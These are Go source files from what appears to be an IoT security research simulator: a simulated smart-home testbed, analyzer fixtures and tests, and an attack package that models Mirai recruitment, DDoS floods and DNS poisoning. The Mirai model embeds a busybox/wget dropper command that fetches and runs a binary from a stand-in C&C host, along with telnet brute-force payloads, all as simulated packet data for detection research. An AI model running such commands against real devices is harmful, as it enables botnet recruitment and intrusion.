	Seed int64
	// Flaws enables the vulnerable platform configuration (the "before
	// XLF" world).
	Flaws service.Flaws
	// ResolverMode is "DNS" (cleartext) or "DoT".
	ResolverMode string
	// KeepaliveEvery sets device cloud chatter cadence (0 = 20s).
	KeepaliveEvery time.Duration
	// SignedOTASeed seeds the vendor OTA key (32 bytes used).
	SignedOTASeed byte
	// LightweightEncryption establishes an XLF channel session per device
	// (the §IV-A2 function): keepalive and event payloads are sealed with
	// the device's negotiated Table III cipher and battery-metered.
	LightweightEncryption bool
	// Tracer, when set, is bound to the simulation clock and installed on
	// the kernel, the network, and the device-layer traffic sources, so a
	// packet's journey is reconstructable per layer. Nil disables tracing.
	Tracer *obs.Tracer
}

// Home is the assembled testbed.
type Home struct {
	Kernel   *sim.Kernel
	Net      *netsim.Network
	Gateway  *netsim.Gateway
	Resolver *netsim.Resolver
	DNS      *netsim.DNSServer
	Cloud    *service.Cloud
	OTA      *service.OTAPipeline
	Devices  map[string]*device.Device

	// LANCap and WANCap record traffic at the two tap points.
	LANCap *netsim.Capture
	WANCap *netsim.Capture

	// CloudAddrOf maps vendor domain -> WAN address.
	CloudAddrOf map[string]netsim.Addr

	// Sessions holds per-device lightweight-encryption sessions
	// (device side) when Config.LightweightEncryption is set; devices
	// whose hardware affords no cipher are absent.
	Sessions map[string]*channel.Session
	// GatewaySessions are the core-side peers of Sessions.
	GatewaySessions map[string]*channel.Session

	// Detections, when set, is handed to AttackEnv so attacks timestamp
	// their injections for the detection-latency SLO pipeline.
	Detections *obs.DetectionTracker

	tracer *obs.Tracer
}

// New builds the standard home with the full device catalog. Homes
// are per-run testbed state owned by the testbed domain
// (DESIGN.md §14).
//
//xlf:owned(testbed)
func New(cfg Config) (*Home, error) {
	if cfg.ResolverMode == "" {
		cfg.ResolverMode = "DNS"
	}
	if cfg.KeepaliveEvery <= 0 {
		cfg.KeepaliveEvery = 20 * time.Second
	}

	k := sim.NewKernel(cfg.Seed)
	n := netsim.New(k)
	if cfg.Tracer != nil {
		cfg.Tracer.SetClock(k.Now)
		k.SetTracer(cfg.Tracer)
		n.SetTracer(cfg.Tracer)
	}
	h := &Home{
		Kernel:          k,
		Net:             n,
		Gateway:         netsim.NewGateway("lan:gw", "wan:home"),
		Devices:         make(map[string]*device.Device),
		LANCap:          netsim.NewCapture(),
		WANCap:          netsim.NewCapture(),
		CloudAddrOf:     make(map[string]netsim.Addr),
		Sessions:        make(map[string]*channel.Session),
		GatewaySessions: make(map[string]*channel.Session),
		tracer:          cfg.Tracer,
	}
	h.Cloud = service.NewCloud(cfg.Flaws, k.Now)

	seed := make([]byte, 32)
	for i := range seed {
		seed[i] = cfg.SignedOTASeed + byte(i)
	}
	ota, err := service.NewOTAPipeline(h.Cloud, seed)
	if err != nil {
		return nil, err
	}
	h.OTA = ota

	if err := n.Attach(h.Gateway, netsim.DefaultLAN()); err != nil {
		return nil, err
	}
	if err := n.Attach(h.Gateway.WANNode(), netsim.DefaultWAN()); err != nil {
		return nil, err
	}
	n.AddTap(netsim.TapLAN, h.LANCap.Tap())
	n.AddTap(netsim.TapWAN, h.WANCap.Tap())

	// Devices + their vendor cloud endpoints + DNS records.
	var records []netsim.DNSRecord
	for _, d := range device.Catalog() {
		if err := h.addDevice(d, cfg); err != nil {
			return nil, err
		}
		for _, dom := range d.CloudDomains {
			if _, ok := h.CloudAddrOf[dom]; ok {
				continue
			}
			addr := netsim.Addr("wan:" + dom)
			h.CloudAddrOf[dom] = addr
			records = append(records, netsim.DNSRecord{Name: dom, Addr: addr, TTL: 5 * time.Minute})
			if err := n.Attach(&netsim.FuncNode{Address: addr}, netsim.DefaultWAN()); err != nil {
				return nil, err
			}
		}
	}

	h.DNS = netsim.NewDNSServer("wan:dns", records)
	if err := n.Attach(h.DNS, netsim.DefaultWAN()); err != nil {
		return nil, err
	}
	h.Resolver = netsim.NewResolver("lan:resolver", "wan:dns", cfg.ResolverMode)
	if err := n.Attach(h.Resolver, netsim.DefaultLAN()); err != nil {
		return nil, err
	}

	// Attacker footholds.
	if err := n.Attach(&netsim.FuncNode{Address: "wan:attacker"}, netsim.DefaultWAN()); err != nil {
		return nil, err
	}
	if err := n.Attach(&netsim.FuncNode{Address: "lan:attacker"}, netsim.DefaultLAN()); err != nil {
		return nil, err
	}
	if err := n.Attach(&netsim.FuncNode{Address: "wan:cnc"}, netsim.DefaultWAN()); err != nil {
		return nil, err
	}
	if err := n.Attach(&netsim.FuncNode{Address: "wan:victim"}, netsim.DefaultWAN()); err != nil {
		return nil, err
	}
	return h, nil
}

// addDevice attaches a catalog device to the network and registers it with
// the cloud.
func (h *Home) addDevice(d *device.Device, cfg Config) error {
	h.Devices[d.ID] = d
	lanAddr := netsim.Addr("lan:" + d.ID)

	node := &netsim.FuncNode{Address: lanAddr, Fn: func(n *netsim.Network, pkt *netsim.Packet) {
		// Devices accept legitimate commands delivered by the cloud path
		// ("cmd:<name>"); everything else is attack traffic acting on the
		// device model directly.
		if len(pkt.App) > 4 && pkt.App[:4] == "cmd:" {
			name := pkt.App[4:]
			if err := d.Apply(name); err == nil {
				// State change acknowledged to the cloud as an event.
				h.Cloud.PublishDeviceEvent(d.ID, name, 0)
			}
		}
	}}
	link := netsim.DefaultLAN()
	if d.Profile.Kind == "sensor" {
		link = netsim.DefaultZigbee()
	}
	if err := h.Net.Attach(node, link); err != nil {
		return err
	}

	// Cloud handler: delivering a command sends a packet down to the
	// device and applies it on arrival.
	caps := map[string]string{
		"on": "switch", "off": "switch", "dim": "level",
		"open": "lock", "close": "lock", "unlock": "lock", "lock": "lock",
		"heat": "thermostat", "cool": "thermostat",
		"record": "camera", "disable": "camera", "enable": "camera",
		"brew": "brew", "preheat": "oven",
	}
	handler := &service.DeviceHandler{
		ID:           d.ID,
		Caps:         d.Caps,
		CapOfCommand: caps,
		Deliver: func(cmd service.Command) error {
			h.Net.Send(&netsim.Packet{
				Src: "lan:gw", Dst: lanAddr, SrcPort: 443, DstPort: 8443,
				Proto: "TLS", Encrypted: true, Size: 160,
				App: "cmd:" + cmd.Name,
			})
			return nil
		},
	}
	if err := h.Cloud.RegisterDevice(handler); err != nil {
		return err
	}

	// OTA flash path: verified images update the device model.
	// (Installed once; closure captures the map lookup per call.)
	if h.OTA.Flash == nil {
		h.OTA.Flash = func(deviceID string, img service.OTAImage) error {
			t, ok := h.Devices[deviceID]
			if !ok {
				return fmt.Errorf("testbed: flash target %q missing", deviceID)
			}
			t.Firmware = device.Firmware{
				Version: img.Version, Hash: img.Fingerprint,
				Signed: len(img.Signature) > 0, BuildData: img.Data,
				Tampered: len(img.Signature) == 0,
			}
			return nil
		}
	}

	// Lightweight-encryption session (§IV-A2): the device seals its
	// payloads with the negotiated cipher; the gateway holds the peer.
	if cfg.LightweightEncryption {
		reg := lwc.NewRegistry()
		key := []byte("xlf-pairing-" + d.ID)
		if devSess, err := channel.ForDevice(d, reg, key); err == nil {
			h.Sessions[d.ID] = devSess
			// The gateway derives the identical session from the same
			// pairing key and the device's profile (unmetered).
			if gwSess, gerr := channel.ForProfile(d.Profile, reg, key); gerr == nil {
				h.GatewaySessions[d.ID] = gwSess
			}
		}
	}

	// Periodic cloud keepalive: the vendor chatter every real device
	// produces, and what the E2 adversary fingerprints.
	if len(d.CloudDomains) > 0 {
		dom := d.CloudDomains[0]
		h.Kernel.Every(cfg.KeepaliveEvery, cfg.KeepaliveEvery/4, d.ID+"-keepalive", func() {
			pkt := &netsim.Packet{
				Src: lanAddr, SrcPort: 7443,
				Dst: netsim.Addr("wan:" + dom), DstPort: 443,
				Proto: "TLS", Encrypted: true, Size: 180 + len(d.ID)*3,
				App: "keepalive",
			}
			cause := "cleartext"
			if sess, ok := h.Sessions[d.ID]; ok {
				// Payload bytes originate in the device layer and must be
				// sealed before crossing the network layer (the xlf-vet
				// plaintextescape invariant).
				sealed, err := sess.Seal(d.KeepalivePayload())
				if err != nil {
					// Battery exhausted: the device goes dark.
					if h.tracer != nil {
						h.tracer.EmitAt(h.Kernel.Now(), obs.LayerDevice, "keepalive", d.ID, "battery-exhausted")
					}
					return
				}
				pkt.Payload = sealed
				pkt.Proto = "XLF-LWC"
				cause = "sealed"
			}
			if h.tracer != nil {
				h.tracer.EmitAt(h.Kernel.Now(), obs.LayerDevice, "keepalive", d.ID, cause)
			}
			h.Gateway.SendOut(h.Net, pkt)
		})
	}
	return nil
}

// UserEvent applies a local user interaction (physically pressing the
// device), publishing the resulting event to the cloud.
func (h *Home) UserEvent(deviceID, event string) error {
	d, ok := h.Devices[deviceID]
	if !ok {
		return fmt.Errorf("testbed: unknown device %q", deviceID)
	}
	if err := d.Apply(event); err != nil {
		return err
	}
	if h.tracer != nil {
		h.tracer.EmitAt(h.Kernel.Now(), obs.LayerDevice, "user-event", deviceID, event)
	}
	// Event traffic to the vendor cloud (burst larger than keepalive).
	if len(d.CloudDomains) > 0 {
		pkt := &netsim.Packet{
			Src: netsim.Addr("lan:" + deviceID), SrcPort: 7443,
			Dst: netsim.Addr("wan:" + d.CloudDomains[0]), DstPort: 443,
			Proto: "TLS", Encrypted: true, Size: 900,
			App: "event:" + event,
		}
		if sess, ok := h.Sessions[deviceID]; ok {
			// Same plaintextescape contract as the keepalive path: event
			// payloads cross the network layer only sealed.
			if sealed, err := sess.Seal(d.EventPayload(event)); err == nil {
				pkt.Payload = sealed
				pkt.Proto = "XLF-LWC"
			}
		}
		h.Gateway.SendOut(h.Net, pkt)
	}
	return h.Cloud.PublishDeviceEvent(deviceID, event, 0)
}

// AttackEnv exposes the testbed to the attack package.
func (h *Home) AttackEnv() *attack.Env {
	return &attack.Env{
		Kernel:      h.Kernel,
		Net:         h.Net,
		Gateway:     h.Gateway,
		Devices:     h.Devices,
		Cloud:       h.Cloud,
		OTA:         h.OTA,
		AttackerWAN: "wan:attacker",
		AttackerLAN: "lan:attacker",
		Detections:  h.Detections,
	}
}

// Run advances the simulation to the given horizon.
func (h *Home) Run(until time.Duration) error {
	return h.Kernel.Run(until)
}

// InstallClimateAutomation installs the paper's §IV-C3 automation: open
// the window when temperature exceeds 80F.
func (h *Home) InstallClimateAutomation() error {
	above := 80.0
	return h.Cloud.InstallApp(&service.SmartApp{
		ID: "climate-window",
		Rules: []service.Rule{{
			TriggerDevice: "thermo-1", TriggerEvent: "temperature", TriggerAbove: &above,
			ActionDevice: "window-1", ActionCommand: "open",
		}},
		Grants: []service.Grant{
			{DeviceID: "thermo-1", Capability: "temperature"},
			{DeviceID: "window-1", Capability: "lock"},
		},
	})
}
