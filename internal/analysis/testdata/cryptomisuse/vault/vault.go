// Package vault is the fixture's crypto consumer: NewCipher takes key
// material, Box.Seal takes an AEAD-style nonce.
package vault

// Cipher is an opaque keyed primitive.
type Cipher struct{ key []byte }

// NewCipher builds a cipher from key material.
func NewCipher(key []byte) *Cipher { return &Cipher{key: key} }

// Box seals messages.
type Box struct{ c *Cipher }

// Seal encrypts plaintext with the given nonce and additional data.
func (b *Box) Seal(dst, nonce, plaintext, additional []byte) []byte {
	out := append(dst, plaintext...)
	return out
}
