package attack

import (
	"fmt"
	"sort"
	"time"

	"xlf/internal/device"
	"xlf/internal/netsim"
)

// MiraiRecruit is the §III-B botnet recruitment chain: scan the LAN for
// telnet, brute-force factory credentials, drop the loader (whose shell
// strings are exactly what DPI signatures match), then beacon to the C&C.
type MiraiRecruit struct {
	// CNC is the command-and-control endpoint.
	CNC netsim.Addr
	// BeaconEvery sets the keep-alive period of recruited bots.
	BeaconEvery time.Duration

	recruited []string
}

var _ Attack = (*MiraiRecruit)(nil)

// Name implements Attack.
func (a *MiraiRecruit) Name() string { return "mirai-recruitment" }

// Layer implements Attack.
func (a *MiraiRecruit) Layer() Layer { return LayerNetwork }

// TableII implements Attack.
func (a *MiraiRecruit) TableII() (string, string, string) { return "", "", "" }

// Recruited lists device IDs captured by the last Execute.
func (a *MiraiRecruit) Recruited() []string { return append([]string(nil), a.recruited...) }

// Execute implements Attack.
func (a *MiraiRecruit) Execute(env *Env) Result {
	if a.BeaconEvery <= 0 {
		a.BeaconEvery = 30 * time.Second
	}
	a.recruited = nil
	probes := 0
	// Scan phase: touch every LAN device's telnet port plus dead space,
	// generating the fan-out the scan detector keys on.
	targets := make([]string, 0, len(env.Devices))
	for id := range env.Devices {
		targets = append(targets, id)
	}
	// Deterministic order.
	sortStrings(targets)
	for i, id := range targets {
		d := env.Devices[id]
		delay := time.Duration(i) * 150 * time.Millisecond
		id := id
		env.Kernel.Schedule(delay, "mirai-scan", func() {
			sendLAN(env, netsim.Addr("lan:"+id), 23, "telnet", 60, []byte("\xff\xfb\x01"), "attack:scan")
		})
		probes++
		if !d.HasOpenPort("telnet") {
			continue
		}
		// Brute-force phase: the classic dictionary.
		for j, cred := range device.WeakPasswords {
			cred := cred
			env.Kernel.Schedule(delay+time.Duration(j+1)*200*time.Millisecond, "mirai-brute", func() {
				sendLAN(env, netsim.Addr("lan:"+id), 23, "telnet", 80,
					[]byte(cred.User+":"+cred.Password+"\nenable\nsystem\nshell"), "attack:bruteforce")
			})
			if d.Login(cred.User, cred.Password) {
				// Loader phase: the dropper shell sequence.
				env.Kernel.Schedule(delay+2*time.Second, "mirai-load", func() {
					sendLAN(env, netsim.Addr("lan:"+id), 23, "telnet", 300,
						[]byte("/bin/busybox; wget http://"+string(a.CNC)+"/mirai.arm; chmod 777 ./dvrHelper && ./dvrHelper"),
						"attack:loader")
				})
				d.Compromise("mirai")
				a.recruited = append(a.recruited, id)
				env.MarkInjection("mirai", id)
				// Beacon phase: periodic C&C keep-alives from the bot.
				env.Kernel.Schedule(delay+3*time.Second, "mirai-beacon-start", func() {
					env.Kernel.Every(a.BeaconEvery, 0, "mirai-beacon", func() {
						if !d.Compromised {
							return
						}
						env.Gateway.SendOut(env.Net, &netsim.Packet{
							Src: netsim.Addr("lan:" + id), SrcPort: 48101,
							Dst: a.CNC, DstPort: 6667,
							Proto: "TCP", Size: 64,
							Payload: []byte("PING cnc.botnet.example"),
							App:     "attack:cc-beacon",
						})
					})
				})
				break
			}
		}
	}
	if len(a.recruited) == 0 {
		return Result{Attack: a.Name(), Blocked: "no device with telnet + default credentials"}
	}
	return Result{
		Attack: a.Name(), Succeeded: true,
		Impact: fmt.Sprintf("recruited %d devices into botnet", len(a.recruited)),
	}
}

// DDoSFlood launches a volumetric flood from previously recruited bots.
type DDoSFlood struct {
	Victim netsim.Addr
	// Rate is packets/second per bot; Duration bounds the flood.
	Rate     int
	Duration time.Duration
	// Bots lists compromised device IDs to use; empty = every compromised
	// device in the environment.
	Bots []string
}

var _ Attack = (*DDoSFlood)(nil)

// Name implements Attack.
func (a *DDoSFlood) Name() string { return "ddos-flood" }

// Layer implements Attack.
func (a *DDoSFlood) Layer() Layer { return LayerNetwork }

// TableII implements Attack.
func (a *DDoSFlood) TableII() (string, string, string) { return "", "", "" }

// Execute implements Attack.
func (a *DDoSFlood) Execute(env *Env) Result {
	bots := a.Bots
	if len(bots) == 0 {
		for id, d := range env.Devices {
			if d.Compromised {
				bots = append(bots, id)
			}
		}
		sortStrings(bots)
	}
	if len(bots) == 0 {
		return Result{Attack: a.Name(), Blocked: "no bots available"}
	}
	rate := a.Rate
	if rate <= 0 {
		rate = 100
	}
	dur := a.Duration
	if dur <= 0 {
		dur = 10 * time.Second
	}
	interval := time.Second / time.Duration(rate)
	for _, id := range bots {
		id := id
		d := env.Devices[id]
		t := env.Kernel.Every(interval, interval/4, "ddos", func() {
			if !d.Compromised {
				return
			}
			env.Gateway.SendOut(env.Net, &netsim.Packet{
				Src: netsim.Addr("lan:" + id), SrcPort: 50000,
				Dst: a.Victim, DstPort: 80,
				Proto: "UDP", Size: 512, App: "attack:flood",
			})
		})
		env.Kernel.Schedule(dur, "ddos-stop", t.Stop)
		env.MarkInjection("flood", id)
	}
	return Result{
		Attack: a.Name(), Succeeded: true,
		Impact: fmt.Sprintf("%d bots flooding %s at %d pps each", len(bots), a.Victim, rate),
	}
}

// DNSPoison races the resolver with a forged response for a vendor
// domain, redirecting the device's hard-coded endpoint (§IV-A3's
// DNS-cache-poisoning concern).
type DNSPoison struct {
	Resolver *netsim.Resolver
	Domain   string
	Redirect netsim.Addr
	// lookFn triggers a lookup so there is a pending query to race.
	Lookup func(cb func(netsim.Addr, error))
}

var _ Attack = (*DNSPoison)(nil)

// Name implements Attack.
func (a *DNSPoison) Name() string { return "dns-cache-poisoning" }

// Layer implements Attack.
func (a *DNSPoison) Layer() Layer { return LayerNetwork }

// TableII implements Attack.
func (a *DNSPoison) TableII() (string, string, string) { return "", "", "" }

// Execute implements Attack.
func (a *DNSPoison) Execute(env *Env) Result {
	if a.Resolver == nil {
		return Result{Attack: a.Name(), Blocked: "no resolver in scope"}
	}
	// Forged response from off-path, racing the legitimate answer.
	env.Net.Send(&netsim.Packet{
		Src: env.AttackerWAN, Dst: a.Resolver.Addr(), SrcPort: 53, DstPort: 5353,
		Proto: "DNS", Size: 120, DNSName: a.Domain, Payload: []byte(a.Redirect),
		App: "attack:dns-forge",
	})
	var got netsim.Addr
	if a.Lookup != nil {
		a.Lookup(func(addr netsim.Addr, err error) { got = addr })
	} else {
		a.Resolver.Lookup(env.Net, a.Domain, func(addr netsim.Addr, err error) { got = addr })
	}
	// Give the race time to settle.
	env.Kernel.Run(env.Kernel.Now() + 3*time.Second)
	if got == a.Redirect {
		return Result{Attack: a.Name(), Succeeded: true, Impact: "device endpoint redirected to attacker"}
	}
	return Result{Attack: a.Name(), Blocked: "forgery rejected (encrypted channel or lost race)"}
}

func sortStrings(s []string) { sort.Strings(s) }
