// Package xauth is an errdrop fixture: discarding an error from a
// same-package function or method is a finding unless waived.
package xauth

import "errors"

// Verify models a signature check whose error is the security outcome.
func Verify() error { return errors.New("bad signature") }

// Token models a credential.
type Token struct{}

// Validate models a credential check.
func (Token) Validate() error { return nil }

// log returns nothing; calling it as a statement is fine.
func log(string) {}

func use(t Token) error {
	Verify()     // want "\[errdrop\] error from Verify discarded"
	t.Validate() // want "\[errdrop\] error from Validate discarded"
	_ = Verify() // want "\[errdrop\] error from Verify assigned only to blanks"

	Verify() //xlf:allow-droperr probe call; outcome intentionally unused

	log("checked")
	if err := t.Validate(); err != nil {
		return err
	}
	err := Verify()
	return err
}

var _ = use
