package main

import "testing"

func TestRunModes(t *testing.T) {
	if got := run([]string{"-bogus"}); got != 2 {
		t.Errorf("bad flag exit = %d, want 2", got)
	}
	if got := run([]string{"-minutes", "6", "-quiet"}); got != 0 {
		t.Errorf("protected run exit = %d, want 0", got)
	}
	if got := run([]string{"-minutes", "6", "-unprotected"}); got != 0 {
		t.Errorf("unprotected run exit = %d, want 0", got)
	}
}
