// Package sub acquires the root package's exported locks in the
// opposite order, forming a cross-package cycle: both packages report
// their own witness.
package sub

import root "example.com/m"

func ConnThenReg(r *root.Reg, c *root.Conn) {
	c.Mu.Lock()
	r.Mu.Lock() // want "inconsistent lock order: m\.Reg\.Mu acquired while holding m\.Conn\.Mu"
	r.Mu.Unlock()
	c.Mu.Unlock()
}
