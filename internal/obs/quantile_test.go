package obs

import (
	"math/rand"
	"testing"
	"time"

	"xlf/internal/metrics"
)

// TestQuantileEmptyAndEdges pins the edge semantics shared with
// internal/metrics.Quantile: empty returns 0, q <= 0 (and NaN via the
// !(q > 0) contract) clamps to the minimum, q >= 1 to the maximum.
func TestQuantileEmptyAndEdges(t *testing.T) {
	var nilH *Histogram
	if got := nilH.Quantile(0.5); got != 0 {
		t.Fatalf("nil histogram quantile = %d, want 0", got)
	}
	h := &Histogram{}
	if got := h.Quantile(0.5); got != 0 {
		t.Fatalf("empty histogram quantile = %d, want 0", got)
	}
	h.Observe(0)
	h.Observe(100)
	if got := h.Quantile(-1); got != 0 {
		t.Fatalf("q<=0 = %d, want min bucket estimate 0", got)
	}
	max := h.Quantile(1)
	if max < 64 || max > 127 {
		t.Fatalf("q>=1 = %d, want inside the bucket holding 100 ([64,127])", max)
	}
}

// TestQuantileExactBuckets checks exact results where buckets are
// singletons (0 and 1 each live alone in their bucket).
func TestQuantileExactBuckets(t *testing.T) {
	h := &Histogram{}
	for i := 0; i < 10; i++ {
		h.Observe(0)
	}
	for i := 0; i < 10; i++ {
		h.Observe(1)
	}
	if got := h.Quantile(0.25); got != 0 {
		t.Fatalf("p25 = %d, want 0", got)
	}
	if got := h.Quantile(0.95); got != 1 {
		t.Fatalf("p95 = %d, want 1", got)
	}
}

// TestQuantileErrorBoundVsMetrics is the satellite cross-check: against
// the exact sample quantile from internal/metrics.Latencies (the R-7
// definition the estimator mirrors), the bucketed estimate must stay
// within the documented factor-of-2 relative error for every q and for
// several distributions.
func TestQuantileErrorBoundVsMetrics(t *testing.T) {
	rng := rand.New(rand.NewSource(42))
	distributions := map[string]func() uint64{
		"uniform":   func() uint64 { return uint64(rng.Int63n(1_000_000)) },
		"exp-ish":   func() uint64 { return uint64(1) << uint(rng.Intn(20)) },
		"heavytail": func() uint64 { return uint64(rng.Int63n(1000) * rng.Int63n(1000)) },
		"constant":  func() uint64 { return 4096 },
	}
	qs := []float64{0.01, 0.25, 0.5, 0.9, 0.95, 0.99, 0.999}
	for name, gen := range distributions {
		t.Run(name, func(t *testing.T) {
			h := &Histogram{}
			var l metrics.Latencies
			for i := 0; i < 5000; i++ {
				v := gen()
				h.Observe(v)
				l.Observe(time.Duration(v))
			}
			for _, q := range qs {
				got := float64(h.Quantile(q))
				want := float64(l.Quantile(q))
				lo, hi := want/2, want*2
				if want == 0 {
					lo, hi = 0, 0
				}
				if got < lo || got > hi {
					t.Errorf("q=%g: bucketed %.0f outside [%g, %g] around exact %.0f", q, got, lo, hi, want)
				}
			}
		})
	}
}

// TestQuantileBucketsMatchesHistogram pins that the offline estimator
// over a sparse Buckets snapshot agrees with the live histogram.
func TestQuantileBucketsMatchesHistogram(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	h := &Histogram{}
	for i := 0; i < 2000; i++ {
		h.Observe(uint64(rng.Int63n(1 << 30)))
	}
	buckets := h.Buckets()
	for _, q := range []float64{0, 0.5, 0.95, 0.99, 1} {
		if live, snap := h.Quantile(q), QuantileBuckets(buckets, q); live != snap {
			t.Errorf("q=%g: live %d != snapshot %d", q, live, snap)
		}
	}
}

// TestBucketBounds pins the bucket geometry the estimator interpolates
// over, including the saturating top bucket.
func TestBucketBounds(t *testing.T) {
	cases := []struct {
		i      int
		lo, hi uint64
	}{
		{0, 0, 0},
		{1, 1, 1},
		{2, 2, 3},
		{3, 4, 7},
		{10, 512, 1023},
		{64, 1 << 63, ^uint64(0)},
	}
	for _, c := range cases {
		lo, hi := bucketBounds(c.i)
		if lo != c.lo || hi != c.hi {
			t.Errorf("bucketBounds(%d) = (%d, %d), want (%d, %d)", c.i, lo, hi, c.lo, c.hi)
		}
	}
}
