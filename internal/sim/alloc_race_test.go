//go:build race

package sim

func init() { raceEnabled = true }
