package analysis

import (
	"go/ast"
	"go/parser"
	"go/token"
	"strings"
	"testing"
)

// fixtureShardSafeSuite configures the family against the fixture
// module: one domain whose holder set is sim+worker, and the fixture
// Handle as the generation token.
func fixtureShardSafeSuite() []Analyzer {
	domains := map[string][]string{
		"sim": {fixtureModule + "/internal/sim", fixtureModule + "/internal/worker"},
	}
	tokens := []TokenType{{Pkg: fixtureModule + "/internal/sim", Name: "Handle"}}
	return NewShardSafeSuite(domains, tokens, nil)
}

func TestShardSafeFixture(t *testing.T) {
	checkFixture(t, "shardsafe", fixtureShardSafeSuite()...)
}

func TestDirectiveArg(t *testing.T) {
	cases := []struct {
		doc string
		arg string
		ok  bool
	}{
		{"//xlf:owned(sim)", "sim", true},
		{"//xlf:owned(win-2_a)", "win-2_a", true},
		{"//xlf:owned", "", true},       // present but malformed
		{"//xlf:owned()", "", true},     // empty argument
		{"//xlf:owned(SIM)", "", true},  // upper case is out of grammar
		{"//xlf:owned(sim", "", true},   // unclosed
		{"// plain comment", "", false}, // absent
		{"//xlf:hotpath", "", false},    // different marker
	}
	for _, tc := range cases {
		fd := &ast.FuncDecl{
			Doc:  &ast.CommentGroup{List: []*ast.Comment{{Text: tc.doc}}},
			Name: ast.NewIdent("f"),
		}
		arg, ok := directiveArg(fd, OwnedMarker)
		if arg != tc.arg || ok != tc.ok {
			t.Errorf("directiveArg(%q) = (%q, %v), want (%q, %v)", tc.doc, arg, ok, tc.arg, tc.ok)
		}
	}
	if _, ok := directiveArg(&ast.FuncDecl{Name: ast.NewIdent("f")}, OwnedMarker); ok {
		t.Error("directiveArg with nil doc reported a directive")
	}
}

// TestShardSafeDeterministic pins that two runs over the same fixture
// produce byte-identical findings in identical order.
func TestShardSafeDeterministic(t *testing.T) {
	render := func() string {
		pkgs := fixturePackages(t, "shardsafe")
		var sb strings.Builder
		for _, f := range Run(pkgs, fixtureShardSafeSuite()) {
			sb.WriteString(f.String())
			sb.WriteByte('\n')
		}
		return sb.String()
	}
	a, b := render(), render()
	if a != b {
		t.Fatalf("shardsafe findings differ across runs:\n--- first\n%s--- second\n%s", a, b)
	}
	if a == "" {
		t.Fatal("shardsafe fixture produced no findings")
	}
}

// FuzzShardSafe feeds arbitrary source through the whole family —
// directive parsing, producer and parameter-escape fixed points, phase
// reachability and all three checkers — asserting none of them panic.
// scripts/check.sh runs this as a smoke target.
func FuzzShardSafe(f *testing.F) {
	f.Add("package p\n//xlf:owned(d)\nfunc New() int { return 0 }\nfunc b() { _ = New() }")
	f.Add("package p\n//xlf:owned\nfunc New() int { return 0 }")
	f.Add("package p\nvar g int\nfunc leak(x int) { g = x }\nfunc b() { leak(0) }")
	f.Add("package p\n//xlf:phase(a)\nfunc a() { b() }\n//xlf:phase(c)\nfunc b() {}")
	f.Add("package p\nfunc a() { ch := make(chan int); go func() { ch <- 1 }() }")
	f.Fuzz(func(t *testing.T, src string) {
		fset := token.NewFileSet()
		file, err := parser.ParseFile(fset, "fuzz.go", src, parser.ParseComments|parser.SkipObjectResolution)
		if err != nil {
			t.Skip()
		}
		pkg := &Package{
			ImportPath: "fuzz",
			Fset:       fset,
			Files:      []File{{Name: "fuzz.go", AST: file}},
		}
		domains := map[string][]string{"d": {"fuzz"}}
		tokens := []TokenType{{Pkg: "fuzz", Name: "H"}}
		_ = Run([]*Package{pkg}, NewShardSafeSuite(domains, tokens, nil))
	})
}
