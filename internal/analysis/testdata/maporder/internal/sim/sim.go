// Package sim is the maporder fixture: map iteration order escaping
// into returns, sinks, and unsorted appends — the System.attest bug
// class — against the quiet shapes (sorted afterwards, guarded search,
// waived loops).
package sim

import (
	"fmt"
	"sort"
)

type row struct {
	ID string
	N  int
}

// unsortedAppend is the attest bug: keys collected in iteration order
// and never laundered.
func unsortedAppend(m map[string]int) []string {
	var ids []string
	for id := range m {
		ids = append(ids, id) // want "\[maporder\] map iteration order flows into append to ids through id with no sort after the loop"
	}
	return ids
}

// sortedAppend is the attest fix: the sort after the loop launders the
// order.
func sortedAppend(m map[string]int) []string {
	var ids []string
	for id := range m {
		ids = append(ids, id)
	}
	sort.Strings(ids)
	return ids
}

// wrapperSorted launders through a module helper that reaches the sort
// package — the call graph, not the call site, proves it sorts.
func wrapperSorted(m map[string]int) []string {
	var ids []string
	for id := range m {
		ids = append(ids, id)
	}
	sortIDs(ids)
	return ids
}

func sortIDs(s []string) { sort.Strings(s) }

// bareReturn picks an arbitrary element.
func bareReturn(m map[string]int) string {
	for k := range m {
		return k // want "\[maporder\] map iteration order flows into a return value through k"
	}
	return ""
}

// guardedSearch is a lookup, not an arbitrary pick.
func guardedSearch(m map[string]int, want int) string {
	for k, v := range m {
		if v == want {
			return k
		}
	}
	return ""
}

// sinkCall emits values in iteration order through a configured sink.
func sinkCall(m map[string]int) {
	for k, v := range m {
		fmt.Println(k, v) // want "\[maporder\] map iteration order flows into sink fmt.Println through k"
	}
}

// compositeArg is the attest shape: the key rides into the sink inside
// a struct literal.
func compositeArg(m map[string]int) {
	for k, v := range m {
		fmt.Printf("%v\n", row{ID: k, N: v}) // want "\[maporder\] map iteration order flows into sink fmt.Printf through k"
	}
}

// waivedLoop carries the marker on the range statement, covering the
// whole body.
func waivedLoop(m map[string]int) []string {
	var ids []string
	for id := range m { //xlf:allow-maporder reviewed: order feeds an order-insensitive set
		ids = append(ids, id)
	}
	return ids
}

// keyless observes nothing.
func keyless(m map[string]int) int {
	n := 0
	for range m {
		n++
	}
	return n
}
