package attack_test

import (
	"strings"
	"testing"
	"time"

	"xlf/internal/attack"
	"xlf/internal/netsim"
	"xlf/internal/service"
	"xlf/internal/testbed"
)

func vulnerableHome(t *testing.T) *testbed.Home {
	t.Helper()
	h, err := testbed.New(testbed.Config{
		Seed:  42,
		Flaws: service.Flaws{CoarseGrants: true, UnsignedEvents: true, OpenRedirectOTA: true},
	})
	if err != nil {
		t.Fatal(err)
	}
	return h
}

func hardenedHome(t *testing.T) *testbed.Home {
	t.Helper()
	h, err := testbed.New(testbed.Config{Seed: 42, ResolverMode: "DoT"})
	if err != nil {
		t.Fatal(err)
	}
	return h
}

func TestTableIIAttacksSucceedOnVulnerableHome(t *testing.T) {
	h := vulnerableHome(t)
	env := h.AttackEnv()
	for _, a := range attack.TableIIAttacks() {
		res := a.Execute(env)
		if !res.Succeeded {
			t.Errorf("%s did not succeed on the vulnerable home: %s", a.Name(), res)
		}
		v, m, i := a.TableII()
		if v == "" || m == "" || i == "" {
			t.Errorf("%s missing Table II annotations", a.Name())
		}
		if a.Layer() != attack.LayerDevice {
			t.Errorf("%s layer = %s, want device", a.Name(), a.Layer())
		}
	}
	if err := h.Run(30 * time.Second); err != nil {
		t.Fatal(err)
	}
	// The attacks left observable traffic.
	if h.LANCap.Len() == 0 {
		t.Error("attacks generated no observable LAN traffic")
	}
}

